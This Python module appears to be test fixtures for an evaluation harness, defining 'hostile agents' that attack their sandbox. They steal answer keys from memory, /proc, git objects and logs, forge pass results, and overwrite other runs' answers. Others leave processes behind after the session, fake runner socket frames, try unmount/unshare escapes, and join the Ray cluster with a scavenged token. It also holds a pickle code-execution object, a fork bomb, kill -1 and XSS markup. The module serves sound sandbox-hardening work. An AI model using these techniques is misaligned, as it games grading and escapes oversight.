"""Hostile agents: each tries one class of attack from inside its unit and reports what it got.

Each answers ``{"value": <what it found>}``: the evals it runs on grade ``value`` against a
secret number, so an attack that reaches an answer key turns a failing unit into a passing
one. Every agent also says in its metadata what it tried, so that a test can tell an attack
that was stopped from one that never ran.
"""

from __future__ import annotations

import gc
import json
import os
import re
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

MARKER = "SECRET-ANSWER-KEY"  # eval files under attack carry it in their grader config
# the secret the tests put in the workers' environment starts so (what is hunted, not a way to it)
HUNTED_PREFIX = b"sk-ant-hunted-"


def _key_in(text: str) -> float | None:
    """The answer key of an eval file's text, if ``text`` is one."""
    if MARKER not in text:
        return None
    try:
        body = json.loads(text)
        return float(body["grader"]["config"]["ground_truth"]["value"])
    except (ValueError, KeyError, TypeError):
        return None


def _answer(found: float | None, **tried: Any) -> dict:
    return {"answer": {"value": found if found is not None else -1.0}, "metadata": {"attack": tried}}


def _walk_for_keys(roots: list[str], limit: int = 20000, entries: int = 50_000) -> tuple[float | None, int]:
    """Search folders for an eval file holding a key: (key, files looked at). Not more than
    12 folders deep (a shared temp folder may hold trees too deep for a recursive walk), nor
    more than ``entries`` names listed or ``limit`` files read under each root (a host's temp
    folder or home may hold millions: each lead gets its turn)."""
    seen = 0
    for root in roots:
        listed, read_before = 0, seen
        for folder, dirs, files in os.walk(root):
            listed += len(dirs) + len(files)
            if listed > entries or seen - read_before >= limit:
                break
            too_deep = folder.count(os.sep) - root.count(os.sep) >= 12
            # installed software holds no eval, and more files than any search reads
            skipped = ("proc", "sys", "dev", "node_modules", "site-packages", "dist-packages")
            dirs[:] = [] if too_deep else [d for d in dirs if d not in skipped]
            for name in files:
                if not name.endswith(".json"):
                    continue
                if seen - read_before >= limit:
                    break
                seen += 1
                try:
                    key = _key_in(Path(folder, name).read_text(errors="replace")[:100000])
                except OSError:
                    continue
                if key is not None:
                    return key, seen
    return None, seen


def memory(task_prompt: str, work_dir: Path) -> dict:
    """Look for evals and grader configs in this process's memory and its callers' frames."""
    import inspect

    found = None
    objects = 0
    for obj in gc.get_objects():
        objects += 1
        if isinstance(obj, dict) and "ground_truth" in obj and isinstance(obj.get("ground_truth"), dict):
            value = obj["ground_truth"].get("value")
            if isinstance(value, (int, float)):
                found = float(value)
                break
        if type(obj).__name__ == "Eval":
            try:
                found = float(obj.grader.config["ground_truth"]["value"])
                break
            except (AttributeError, KeyError, TypeError):
                pass
    frames = len(inspect.stack())
    return _answer(found, objects=objects, frames=frames)


def processes(task_prompt: str, work_dir: Path) -> dict:
    """Read other processes' command lines, working folders and environments for the way to
    the evals folder and for secrets; then search the folders found and the temp folder."""
    leads: set[str] = set()
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    leaked = False
    for pid in pids:
        for what in ("cmdline", "environ"):
            try:
                raw = Path(f"/proc/{pid}/{what}").read_bytes()
            except OSError:
                continue
            if HUNTED_PREFIX in raw:
                leaked = True
            for part in raw.split(b"\0"):
                text = part.decode(errors="replace").split("=", 1)[-1]
                if text.startswith("/") and os.path.isdir(text):
                    leads.add(text)
        try:
            leads.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    leads |= {str(Path(lead).parent) for lead in leads}  # where a folder found sits: its siblings too
    # no eval is kept among installed software: those leads are left for last (a host's Python
    # environments and tool folders hold more files than any search reads)
    software = (sys.prefix, sys.base_prefix, "/usr", "/opt")
    leads = {lead for lead in leads if lead != "/" and not any(lead.startswith(place) for place in software)}
    # the most specific leads first: a folder named by a process before the folders above it
    found, looked = _walk_for_keys(sorted(leads, key=lambda lead: (-lead.count(os.sep), lead)) + ["/tmp"])
    return _answer(found, processes=len(pids), leads=len(leads), looked=looked, leaked_secret=leaked)


_KEY_IN_TEXT = re.compile(r"ground_truth\W+value\W+(-?[0-9][0-9.]*)")


def _key_in_any(data: bytes) -> float | None:
    """The answer key in any file that copies an eval's grader (an eval file, a report, an
    export, an archive's text): the value after ``ground_truth`` near the canary."""
    if MARKER.encode() not in data:  # as in the decoded text: no invalid byte swallows ASCII
        return None
    text = data.decode(errors="replace")
    found = _KEY_IN_TEXT.search(text.replace("&quot;", '"'))
    return float(found[1]) if found else None


def search_everything(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Read every file it can see, everywhere (but /proc, /sys, /dev), for a copy of an answer
    key: an eval file backed up, exported, reported or linked from elsewhere. Lists which of
    the folders the test names (``--agent-arg places=`` a JSON list) it sees at all.
    ``--agent-arg roots=`` (a JSON list) reads under those folders only, instead of ``/``."""
    found, looked = None, 0
    for root in json.loads(context.args.get("roots", '["/"]')):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
            for name in files:
                path = os.path.join(folder, name)
                looked += 1
                try:
                    if os.path.getsize(path) > (4 << 20) or not os.path.isfile(path):
                        continue
                    with open(path, "rb") as handle:
                        key = _key_in_any(handle.read())
                except OSError:
                    continue
                if key is not None:
                    return _answer(key, looked=looked, where=path)
    places = json.loads(context.args.get("places", "[]"))
    return _answer(found, looked=looked, seen=[place for place in places if os.path.exists(place)])


def search_folder(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Search a folder (named by the test, as one found by searching) for answer keys."""
    found, looked = _walk_for_keys([context.args["folder"]])
    return _answer(found, looked=looked)


def forge_results(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Write a Parquet part claiming every unit of the run passed into the results root (the
    test names it, as an agent that found it by searching would know it)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    root = Path(context.args["results"])
    written, error = 0, None
    if not root.exists():
        return _answer(None, written=0, error=None, root_visible=False)
    try:
        for run in root.glob("run_id=*"):
            for model in run.glob("model=*"):
                existing = next(model.glob("*.parquet"), None)
                table = pq.read_table(existing) if existing else None
                if table is None:
                    continue
                forged = table.set_column(
                    table.schema.get_field_index("passed"), "passed", pa.array([True] * len(table))
                )
                forged = forged.set_column(
                    forged.schema.get_field_index("attempt"), "attempt", pa.array([99] * len(table), pa.int64())
                )
                pq.write_table(forged, model / "part-forged.parquet")
                written += 1
        (root / f"run_id={context.run_id}" / "_manifest.json").write_text("{}")
        written += 1
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"
    return _answer(None, written=written, error=error, root_visible=True)


def forge_neighbours(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """The victim (seed 1) answers wrong in its answer file and waits; the attacker (seed 2)
    writes the right answer (named by the test) into every other unit's answer file."""
    if context.seed == 1:
        (work_dir / "eval_answer.json").write_text(json.dumps({"value": -1.0}))
        time.sleep(float(context.args.get("victim_wait", "3")))
        return {"answer": None, "metadata": {"attack": {"role": "victim"}}}
    time.sleep(0.5)
    overwritten, folders = 0, 0
    for parent in list(work_dir.parents)[:4]:
        try:
            for answer in parent.rglob("eval_answer.json"):
                if work_dir not in answer.parents:
                    answer.write_text(json.dumps({"value": float(context.args["key"])}))
                    overwritten += 1
            folders += 1
        except OSError:
            continue
    return _answer(None, role="attacker", overwritten=overwritten, folders=folders)


class _Hostile:
    """Unpickling this anywhere runs code: it writes the file the test looks for."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def hostile_object(task_prompt: str, work_dir: Path, context: Any) -> Any:
    """Return an object whose unpickling would run code in the process that receives it."""
    return {"answer": {"value": _Hostile(context.args["marker"])}, "metadata": {"attack": {"returned": "object"}}}


def poison_inputs(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Seed 1 rewrites its staged input in place (restoring size and mtime) and the cache
    entry behind it if it can reach it; seed 2 (started after it) reports the bytes it sees."""
    staged = next((work_dir / "data").iterdir())
    if context.seed == 2:
        return _answer(None, content=staged.read_text())
    outcomes = {}
    targets = [staged]
    cache = context.args.get("cache")
    if cache:
        targets += [p for p in Path(cache).rglob("payload")]
    for target in targets:
        try:
            info = target.stat()
            os.chmod(target, 0o644)
            data = target.read_bytes()
            target.write_bytes(b"X" * len(data))
            os.utime(target, ns=(info.st_atime_ns, info.st_mtime_ns))
            outcomes[str(target)] = "rewritten"
        except OSError as exc:
            outcomes[str(target)] = type(exc).__name__
    return _answer(None, outcomes=outcomes)


def outlive(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Leave processes that report to the test's server every 0.1 s for a minute: one in a new
    session with a clean environment, one double-forked; then hang until the unit's timeout."""
    from tests.pings import pinger_code

    port = int(context.args["port"])
    subprocess.Popen([sys.executable, "-c", pinger_code(port, "session")], start_new_session=True, env={},
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", pinger_code(port, "double")])
        os._exit(0)
    time.sleep(600)
    return _answer(None)


def _socket_fds() -> list[int]:
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                found.append(int(fd))
        except OSError:  # the listing's own descriptor, closed since
            continue
    return found


_LINGER = """
import json, os, socket, sys, time
port, tag, key = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
for _ in range(600):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=1) as s:
            s.sendall(b"%s %d\\n" % (tag.encode(), os.getpid()))
        open("ready", "a").close()
        if os.path.exists("eval_answer.json"):  # a later unit's, in this folder if it is reused
            with open("eval_answer.json", "w") as out:
                json.dump({"value": key}, out)
    except OSError:
        pass
    time.sleep(0.1)
"""


def end_early(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Seed 1 leaves a process in its process group that reports to the test's server every
    0.1 s for a minute (``--agent-arg tag=``) and writes the key (``key=``) into any answer
    file that appears in its work folder; then makes the worker believe the unit is over
    while it goes on (``how=``): ``frames`` sends, on the unit's socket (which the agent
    process holds), the frames of a result and of an exit status, as the runner would;
    ``shutdown`` shuts that socket down; ``child`` just returns. Its work folder is left empty,
    to be reused. Seed 2, started after it, answers -1 in its answer file and waits."""
    if context.seed != 1:
        (work_dir / "eval_answer.json").write_text(json.dumps({"value": -1.0}))
        time.sleep(3)
        return {"answer": None, "metadata": {"attack": {"role": "victim"}}}
    args = [context.args["port"], context.args["tag"], context.args["key"]]
    subprocess.Popen([sys.executable, "-c", _LINGER, *args],
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    deadline = time.monotonic() + 30
    while not (work_dir / "ready").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    how = context.args["how"]
    reply = _answer(None, how=how, lingering=(work_dir / "ready").exists())
    for left in work_dir.iterdir():  # its log (open, and empty) too: an empty folder is reused
        if left.is_file():
            left.unlink()
    if how == "child":
        return reply
    unit = next(socket.socket(fileno=os.dup(fd)) for fd in _socket_fds())  # the one socket it holds
    if how == "frames":  # the unit runner's framing: a kind byte and a length
        result = json.dumps({"kind": "returned", "value": reply}).encode()
        unit.sendall(struct.pack("!cQ", b"R", len(result)) + result + struct.pack("!cQ", b"X", 1) + b"0")
    else:
        unit.shutdown(socket.SHUT_RDWR)
    time.sleep(600)
    return reply


def _trickle(sock: socket.socket, data: bytes, interval: float) -> None:
    """``data`` one byte at a time, ``interval`` seconds apart: each read of it returns in time."""
    for byte in data:
        time.sleep(interval)
        sock.sendall(bytes([byte]))


def stretch(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Seed 1 keeps its channel to the worker (the unit's socket, which the agent process holds)
    busy past its unit's deadline, in a way a timeout renewed by each read does not end in time
    (``--agent-arg how=``): ``header``, a frame header trickled a byte at a time, then its body
    (30 s); ``body``, a result's header, then its body trickled (50 s); ``promise``, just before
    the deadline, a header promising more than it sends, then silence (a timeout more);
    ``half_close``, the socket shut down for
    writing, then sleep; ``late_result``, the key (``key=``) as a result trickled so that its
    last byte comes after the deadline, then the runner's exit report, forged. Seed 2, run
    after it, answers the key: it runs once seed 1's slot is free."""
    key = float(context.args["key"])
    if context.seed != 1:
        return _answer(key, role="next")
    unit = next(socket.socket(fileno=os.dup(fd)) for fd in _socket_fds())  # the one socket it holds
    interval = 0.5  # far inside any per-read timeout of a deadline seconds away
    how = context.args["how"]
    if how == "header":
        _trickle(unit, struct.pack("!cQ", b"Z", 51) + b"x" * 51, interval)
    elif how == "body":
        unit.sendall(struct.pack("!cQ", b"R", 1000))
        _trickle(unit, b" " * 100, interval)
    elif how == "promise":  # just before the deadline: a timeout set when the frame began waits on
        time.sleep(max(0.0, context.timeout - 0.5))
        unit.sendall(struct.pack("!cQ", b"R", 100) + b'{"kind": ')
    elif how == "half_close":
        unit.shutdown(socket.SHUT_WR)
    elif how == "late_result":
        result = json.dumps({"kind": "returned", "value": _answer(key, how=how)}).encode()
        late = int((context.timeout + 1) / interval)  # its last byte a second past the deadline
        frame = struct.pack("!cQ", b"R", len(result)) + result
        unit.sendall(frame[:-late])
        _trickle(unit, frame[-late:], interval)
        unit.sendall(struct.pack("!cQ", b"X", 1) + b"0")
    time.sleep(600)
    return _answer(None, how=how)


def read_rows(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Seed 1 answers wrong. Seed 2 reads the rows already recorded, where the write-ahead
    log keeps them on this machine (``--agent-arg folder=``, as a search would find it):
    a failed unit's grader result names the expected value."""
    import re

    if context.seed == 1:
        return _answer(None, role="first")
    folder = Path(context.args["folder"])
    # The driver logs seed 1's row before it starts seed 2 (--max-concurrency 1): a log in
    # sight is there at the first look; the wait only covers a slow disk.
    deadline = time.monotonic() + 3
    looked = 0
    while time.monotonic() < deadline:
        for path in (p for p in folder.rglob("*") if p.is_file()) if folder.is_dir() else ():
            looked += 1
            found = re.search(rb"value_expected\W+([0-9.]+)", path.read_bytes())
            if found:
                return _answer(float(found[1]), looked=looked)
        time.sleep(0.2)
    return _answer(None, looked=looked)


def search_repository(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Search the git repository that holds the evals folder (``--agent-arg repo=``, as a walk
    up from any path would find it): its object store keeps every committed eval file."""
    import zlib

    looked = 0
    for folder, _, files in os.walk(Path(context.args["repo"]) / ".git"):
        for name in files:
            looked += 1
            try:
                text = zlib.decompress(Path(folder, name).read_bytes()).decode(errors="replace")
            except (OSError, zlib.error):
                continue
            key = _key_in(text.split("\0", 1)[-1])  # a loose object: "blob <size>\0<content>"
            if key is not None:
                return _answer(key, looked=looked)
    return _answer(None, looked=looked)


def deep_folders(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Leave a work folder ``depth`` levels deep (too deep for a recursive walk, its paths
    longer than any path may be), a read-only and a locked one on the way."""
    os.chdir(work_dir)
    depth = int(context.args.get("depth", "5000"))
    for level in range(depth):
        os.mkdir("d")
        Path("d", "f").write_text("x")
        os.chdir("d")
        if level == depth // 2:
            os.mkdir("locked", 0)
    for level in range(depth):
        os.chmod(".", 0o555 if level % 2 else 0o500)
        os.chdir("..")
    return _answer(None, depth=depth)


def nested_answers(task_prompt: str, work_dir: Path, context: Any) -> Any:
    """Answers whose walk by trusted code (masking secrets, validating, storing) would exhaust
    its recursion limit, nested 500 deep: returned (seed 1), in the answer file (seed 2), in
    the metadata (seed 3); seed 4 answers the key with an extra field nested 50 deep."""
    deep: Any = 0
    for _ in range(50 if context.seed == 4 else 500):
        deep = [deep]
    key = float(context.args["key"])
    if context.seed == 1:
        return {"value": deep}
    if context.seed == 2:
        (work_dir / "eval_answer.json").write_text(json.dumps({"value": deep}))
        return None
    return {"answer": {"value": key, "extra": deep}} if context.seed == 4 else _answer(key, deep=deep)


def escape_mounts(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Try to uncover hidden folders: unmount the cover in a fresh user and mount namespace,
    remount read-only folders writable, and write where the results are kept."""
    target = context.args["hidden"]
    script = (
        f"umount {target} 2>&1; ls {target} 2>&1 | head -3; mount -o remount,rw / 2>&1; touch /usr/rayeval-escape 2>&1"
    )
    attempts = {}
    for name, argv in {
        "plain": ["sh", "-c", script],
        "userns": ["unshare", "-Urm", "sh", "-c", script],
    }.items():
        run = subprocess.run(argv, capture_output=True, text=True, timeout=30, check=False)
        attempts[name] = run.stdout + run.stderr
    found, looked = _walk_for_keys([target])
    return _answer(found, attempts=attempts, looked=looked, escaped=Path("/usr/rayeval-escape").exists())


def exhaust(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """One of: a fork bomb, a memory hog, a huge file, a huge answer (``--agent-arg kind=``)."""
    kind = context.args["kind"]
    if kind == "fork":
        children = 0
        try:
            for _ in range(100000):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                children += 1
        except OSError as exc:
            return _answer(None, children=children, stopped=type(exc).__name__)
        return _answer(None, children=children, stopped=None)
    if kind == "memory":
        hoard = []
        try:
            for _ in range(64):
                hoard.append(bytearray(512 << 20))
        except MemoryError:
            return _answer(None, allocated_mb=512 * len(hoard), stopped="MemoryError")
        return _answer(None, allocated_mb=512 * len(hoard), stopped=None)
    if kind == "file":
        written = 0
        try:
            with open(work_dir / "big.bin", "wb") as out:
                for _ in range(1 << 14):
                    out.write(b"\0" * (1 << 20))
                    written += 1
        except OSError as exc:
            return _answer(None, written_mb=written, stopped=type(exc).__name__)
        return _answer(None, written_mb=written, stopped=None)
    if kind == "answer":
        return {"answer": {"value": -1.0, "padding": "x" * (64 << 20)}}
    raise ValueError(kind)


def kill_everything(task_prompt: str, work_dir: Path) -> dict:
    """Signal every process it can see, if it sees only its own (else it reports the leak)."""
    visible = [p for p in os.listdir("/proc") if p.isdigit()]
    if len(visible) > 20:
        return _answer(None, visible=len(visible), killed=False)
    os.kill(-1, 9)
    return _answer(None, visible=len(visible), killed=True)


def symlinks(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Point the files the harness reads back (answer, trajectory, log, the reference's
    workspace folder) at files outside the work folder: the eval file with its key."""
    target = context.args["eval_file"]
    (work_dir / "trajectory.json").symlink_to(target)
    (work_dir / "agent_output.log").symlink_to("/etc/hostname")
    (work_dir / "agent_workspace").symlink_to(str(Path(target).parent))
    (work_dir / "eval_answer.json").symlink_to(target)
    return {"answer": None, "metadata": {"attack": {"symlinks": 4}}}


def control_plane(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """Join the Ray cluster the worker belongs to (the test names its address, as a port scan
    would find it) and run a task there, outside the sandbox, that searches for answer keys."""
    import threading

    os.environ["RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER"] = "0"  # a loopback address stays loopback
    for candidate in [Path("/root/.ray/auth_token"), *Path("/home").glob("*/.ray/auth_token")]:
        try:
            os.environ["RAY_AUTH_TOKEN"] = candidate.read_text().strip()  # the token, if in reach
            os.environ["RAY_AUTH_MODE"] = "token"
            break
        except OSError:
            continue
    import ray  # after the environment: Ray reads it when it loads

    outcome: dict[str, Any] = {}

    def join() -> None:
        try:
            ray.init(address=context.args["address"], log_to_driver=False, configure_logging=False)
            outcome["joined"] = True
        except Exception as exc:  # noqa: BLE001 - the attack failed: report how
            outcome["error"] = f"{type(exc).__name__}: {str(exc)[:300]}"

    thread = threading.Thread(target=join, daemon=True)
    thread.start()
    thread.join(float(context.args.get("join_s", "30")))
    if not outcome.get("joined"):
        return _answer(None, joined=False, error=outcome.get("error", "no answer from the cluster"))
    try:

        def search(root: str) -> tuple[float | None, int]:  # sent by value: it runs outside the unit
            import json as json_
            import os as os_

            looked = 0
            for folder, _, files in os_.walk(root):
                for name in files:
                    looked += 1
                    try:
                        with open(os_.path.join(folder, name)) as handle:
                            body = json_.loads(handle.read())
                        return float(body["grader"]["config"]["ground_truth"]["value"]), looked
                    except (OSError, ValueError, KeyError, TypeError):
                        continue
            return None, looked

        found, looked = ray.get(ray.remote(search).remote(context.args["evals"]), timeout=60)
    except Exception as exc:  # noqa: BLE001
        return _answer(None, joined=True, error=f"{type(exc).__name__}: {str(exc)[:300]}")
    finally:
        ray.shutdown()
    return _answer(found, joined=True, looked=looked)


def honest(task_prompt: str, work_dir: Path, context: Any) -> dict:
    """What an honest agent needs: read its inputs, write its work folder and /tmp, run
    subprocesses, call a loopback HTTP server (``--agent-arg url=``)."""
    import hashlib
    import urllib.request

    staged = sorted((work_dir / "data").iterdir())
    digest = hashlib.sha256(staged[0].read_bytes()).hexdigest() if staged else None
    (work_dir / "notes.txt").write_text("scratch")
    Path("/tmp/scratch.txt").write_text("tmp works") if os.access("/tmp", os.W_OK) else None
    echo = subprocess.run(
        ["sh", "-c", "echo from-a-subprocess; python3 -c 'print(6*7)'"], capture_output=True, text=True, check=True
    ).stdout
    served = None
    if "url" in context.args:
        with urllib.request.urlopen(context.args["url"], timeout=10) as response:
            served = response.read().decode()
    socket.gethostname()
    return {
        "answer": {"value": float(context.args.get("value", "-1"))},
        "metadata": {"seen": {"input_sha256": digest, "echo": echo, "served": served, "home": os.environ.get("HOME"),
                              "tmp": Path("/tmp/scratch.txt").read_text() if Path("/tmp/scratch.txt").exists() else None}},
    }  # fmt: skip


def hostile_answers(task_prompt: str, work_dir: Path, context: Any) -> Any:
    """Answers no store should choke on, one kind per seed (the last one honest)."""
    kind = ["huge_int", "surrogate", "not_finite", "deep", "too_large", "big_file", "honest"][(context.seed - 1) % 7]
    if kind == "huge_int":
        return {"value": 10**5000}
    if kind == "surrogate":
        return {"value": "\ud800"}
    if kind == "not_finite":
        return {"value": float("nan"), "other": float("inf")}
    if kind == "deep":
        deep: Any = 0
        for _ in range(100_000):
            deep = [deep]
        return {"value": deep}
    if kind == "too_large":
        return {"value": "x" * (12 << 20)}
    if kind == "big_file":
        (work_dir / "eval_answer.json").write_text('{"value": "' + "x" * (12 << 20) + '"}')
        (work_dir / "trajectory.json").write_text("[" + "0," * (3 << 20) + "0]")
        return None
    return {"value": float(context.args["key"])}


def _nested(depth: int, leaf: Any = 0) -> Any:
    for _ in range(depth):
        leaf = [leaf]
    return leaf


MARKUP = '</script><script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'
#: what ``hostile_artifacts`` leaves, one kind per seed (the last one honest)
ARTIFACT_KINDS = (
    "trajectory_too_deep",
    "trajectory_deep_messages",
    "trajectory_tiny_messages",
    "trajectory_wrong_shapes",
    "trajectory_odd_types",
    "trajectory_scalar",
    "metadata",
    "answer_markup",
    "answer_huge",
    "answer_not_finite",
    "logs",
    "exception",
    "raised_frame",
    "honest",
)


def hostile_artifacts(task_prompt: str, work_dir: Path, context: Any) -> Any:
    """Artifacts no viewer or report should choke on, one kind per seed (see ARTIFACT_KINDS):
    trajectories nested beyond any parser, nesting that indents to gigabytes, hundreds of
    thousands of tiny messages, fields of every wrong type; metadata whose keys are the page's
    own, with NaN and infinities; answers with markup, control characters and megabytes; logs
    of one endless line of bytes that are not text; an exception named with megabytes of
    markup, and a result frame whose error fields are not text. The honest seed answers the key
    (``--agent-arg key=``)."""
    kind = ARTIFACT_KINDS[(context.seed - 1) % len(ARTIFACT_KINDS)]
    key = float(context.args["key"])
    wrong = {"answer": {"value": -1.0}, "metadata": {"attack": {"kind": kind}}}
    if kind == "trajectory_too_deep":  # within the 2 MB of it kept
        (work_dir / "trajectory.json").write_text("[" * (1 << 20))
    elif kind == "trajectory_deep_messages":  # each indented: depth × size
        (work_dir / "trajectory.json").write_text(json.dumps([{"role": "user", "content": _nested(400)}] * 2400))
    elif kind == "trajectory_tiny_messages":
        (work_dir / "trajectory.json").write_text(json.dumps([{"role": "a", "content": "x"}] * 60_000))
    elif kind == "trajectory_wrong_shapes":
        messages = [
            {"role": "assistant", "content": "a", "tool_calls": 5},
            {"role": "r" * 500_000, "content": [7, None, {"type": ["text"]}], "tool_calls": "x" * 500_000},
            {"role": ["a"], "content": {"x": _nested(90)}, "tool_calls": {"function": [MARKUP]}},
            {"role": "tool", "name": {"x": MARKUP}, "content": [{"type": "text", "text": None}]},
        ]
        (work_dir / "trajectory.json").write_text(json.dumps(messages))
    elif kind == "trajectory_odd_types":  # the harness stores metadata["trajectory"] as trajectory.json
        wrong["metadata"]["trajectory"] = [
            {"type": ["item.completed"], "item": [MARKUP]},
            {"type": {"turn.": 1}, "message": {"content": MARKUP}},
            {"type": "item.completed", "item": {"type": "command_execution", "command": [1], "exit_code": [MARKUP]}},
        ]
    elif kind == "trajectory_scalar":
        (work_dir / "trajectory.json").write_text("null")
        (work_dir / "refusal_verdict.json").write_text("{not json " + MARKUP)
    elif kind == "metadata":
        page_keys = ("__proto__", "constructor", "unit_id", "text", "length", "note", "failure", "artifacts")
        wrong["metadata"] = {
            **{name: MARKUP for name in page_keys},
            "cost_usd": float("inf"),
            "n_turns": 10**30,
            "input_tokens": float("nan"),
            "numbers": [float("nan"), float("inf"), float("-inf"), 10**4000],
            "deep": _nested(99),
            "huge": "m" * (4 << 20),
        }
    elif kind == "answer_markup":
        wrong["answer"] = {"value": "\x00\x07\x1b[2J\u202e\u2066" + MARKUP, MARKUP: _nested(99, MARKUP)}
    elif kind == "answer_huge":
        wrong["answer"] = {"value": "x" * (8 << 20), "many": list(range(100_000))}
    elif kind == "answer_not_finite":
        wrong["answer"] = {"value": float("nan"), "other": float("-inf")}
    elif kind == "logs":  # stdout goes to agent_stdout.log; the others are files it may write itself
        sys.stdout.buffer.write((b"\xff\xfe\x00\x1b[2J\xed\xa0\x80" + MARKUP.encode()) * 30_000)  # no newline
        sys.stdout.flush()
        (work_dir / "agent_output.log").write_bytes(b"\x00" * (3 << 20))
    elif kind == "exception":
        raise type(MARKUP * 5_000, (Exception,), {})("\x00" + MARKUP * 50_000)
    elif kind == "raised_frame":  # on the unit's socket, as the runner would, with fields of no text
        unit = next(socket.socket(fileno=os.dup(fd)) for fd in _socket_fds())
        frame = {
            "kind": "raised",
            "error_type": {"a": MARKUP},
            "error_message": _nested(50),
            "traceback": {"t": MARKUP},
        }
        result = json.dumps(frame).encode()
        unit.sendall(struct.pack("!cQ", b"R", len(result)) + result + struct.pack("!cQ", b"X", 1) + b"0")
        time.sleep(600)
    else:
        return {"answer": {"value": key}}
    return wrong
